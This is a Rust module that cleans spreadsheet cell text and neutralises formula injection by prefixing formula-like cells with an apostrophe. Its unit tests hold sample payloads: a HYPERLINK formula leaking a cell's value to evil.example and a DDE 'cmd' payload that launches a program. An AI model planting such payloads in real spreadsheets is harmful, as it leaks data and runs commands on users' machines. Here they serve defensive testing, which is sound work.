//! One cell's text: cleaned as it is read, and made safe to open in a
//! spreadsheet as it is written.

use std::borrow::Cow;

use unicode_normalization::{IsNormalized, UnicodeNormalization as _, is_nfc_quick};

/// What a spreadsheet takes as the start of a formula (OWASP's list).
fn starts_formula(text: &str) -> bool {
    matches!(
        text.trim_start_matches(' ').as_bytes().first(),
        Some(b'=' | b'+' | b'-' | b'@' | b'\t' | b'\r')
    )
}

/// A cell as read, cleaned: trimmed; invisible characters (zero-width
/// space and joiners, BOM, soft hyphen, direction marks, C1 controls)
/// removed; unusual spaces (no-break, thin, ideographic) made plain spaces;
/// composed (NFC), so `é` typed as `e` + accent is the same `é`; and the
/// `'` Pantau puts before a formula-like cell when writing ([`safe`])
/// taken off again. A cell of ASCII only is not copied.
pub fn clean(cell: &str) -> Cow<'_, str> {
    if cell.is_ascii() {
        return Cow::Borrowed(clean_ascii(cell));
    }
    let mut s = String::with_capacity(cell.len());
    for c in cell.chars() {
        match c {
            '\u{200B}'..='\u{200D}'
            | '\u{2060}'..='\u{2064}'
            | '\u{FEFF}'
            | '\u{00AD}'
            | '\u{180E}'
            | '\u{200E}'
            | '\u{200F}'
            | '\u{202A}'..='\u{202E}'
            | '\u{2066}'..='\u{2069}'
            | '\u{0080}'..='\u{009F}' => {}
            '\u{00A0}'
            | '\u{1680}'
            | '\u{2000}'..='\u{200A}'
            | '\u{202F}'
            | '\u{205F}'
            | '\u{3000}' => s.push(' '),
            c => s.push(c),
        }
    }
    if is_nfc_quick(s.chars()) != IsNormalized::Yes {
        s = s.nfc().collect();
    }
    let kept = trimmed(&s);
    if kept.len() == s.len() {
        Cow::Owned(s)
    } else {
        Cow::Owned(kept.to_string())
    }
}

/// [`clean`] for a cell known to be ASCII: nothing to remove or compose.
pub(super) fn clean_ascii(cell: &str) -> &str {
    let t = cell.trim_ascii_start();
    match t.strip_prefix('\'') {
        Some(rest) if starts_formula(rest) => rest.trim_ascii(),
        _ => t.trim_ascii_end(),
    }
}

/// `text` trimmed, without the `'` [`safe`] puts before a formula-like cell.
fn trimmed(text: &str) -> &str {
    unprefixed(text.trim_start()).trim_end()
}

/// `text` without the `'` [`safe`] puts before a formula-like cell.
fn unprefixed(text: &str) -> &str {
    match text.strip_prefix('\'') {
        Some(rest) if starts_formula(rest) => rest.trim_start(),
        _ => text,
    }
}

/// A cell to write: one a spreadsheet would take as a formula (starting,
/// after spaces, with `=`, `+`, `-`, `@`, a tab or a carriage return) gets
/// a `'` before it, so it stays text. A plain number (`-12`, `-3.50`) or
/// a list of them (a GPS point, `-5.429200,105.261900`) stays as it is: it
/// cannot call a function or name a cell, and a script reading the file
/// gets the number.
pub fn safe(cell: &str) -> Cow<'_, str> {
    if starts_formula(cell) && !numbers(cell) {
        Cow::Owned(format!("'{cell}"))
    } else {
        Cow::Borrowed(cell)
    }
}

/// `-12`, `+3.5`, `-5.429200,105.261900`: signed decimals, comma-separated, nothing else.
fn numbers(text: &str) -> bool {
    text.split(',').all(|n| {
        let n = n.strip_prefix(['-', '+']).unwrap_or(n);
        let (whole, fraction) = n.split_once('.').unwrap_or((n, "0"));
        [whole, fraction]
            .iter()
            .all(|d| !d.is_empty() && d.bytes().all(|b| b.is_ascii_digit()))
    })
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    #[test]
    fn cells_are_cleaned() {
        for (read, want) in [
            ("  KSP Maju ", "KSP Maju"),
            ("KSP\u{200B} Maju\u{200D}", "KSP Maju"),
            ("\u{feff}kind", "kind"),
            ("KSP\u{00A0}Maju", "KSP Maju"),
            ("Jose\u{0301}", "José"),
            ("'=HYPERLINK(\"x\")", "=HYPERLINK(\"x\")"),
            ("'-5", "-5"),
            ("'\t=1", "=1"),
            ("'Budi", "'Budi"),
            ("'\t", ""),
            ("Ren\u{00e9}", "René"),
        ] {
            assert_eq!(clean(read), want, "{read:?}");
        }
        assert!(matches!(clean(" plain "), Cow::Borrowed("plain")));
    }

    #[test]
    fn formula_like_cells_are_prefixed_but_numbers_stay() {
        for (cell, out) in [
            (
                "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"klik\")",
                "'=",
            ),
            ("+62 812", "'+"),
            ("-2+3+cmd|' /C calc'!A0", "'-"),
            ("@SUM(A1)", "'@"),
            ("\tx", "'\t"),
            ("\rx", "'\r"),
            ("  =1+1", "'  ="),
            ("-", "'-"),
            ("-1+1", "'-"),
            ("-12", "-12"),
            ("-3.50", "-3.50"),
            ("-5.429200,105.261900", "-5.429200,105.261900"),
            ("KSP Maju", "KSP Maju"),
            ("Rp 1.000", "Rp 1.000"),
        ] {
            assert!(safe(cell).starts_with(out), "{cell:?} → {:?}", safe(cell));
        }
    }

    proptest! {
        /// What Pantau writes reads back as it was (cleaning aside).
        #[test]
        fn a_written_cell_reads_back(cell in "[=+@ \t-]{0,2}[a-zA-Z0-9 ()\"&=.,-]{0,12}") {
            let written = safe(&cell);
            prop_assert_eq!(clean(&written), clean(&cell));
            prop_assert!(!starts_formula(&safe(&cell)) || numbers(&cell));
        }
    }
}
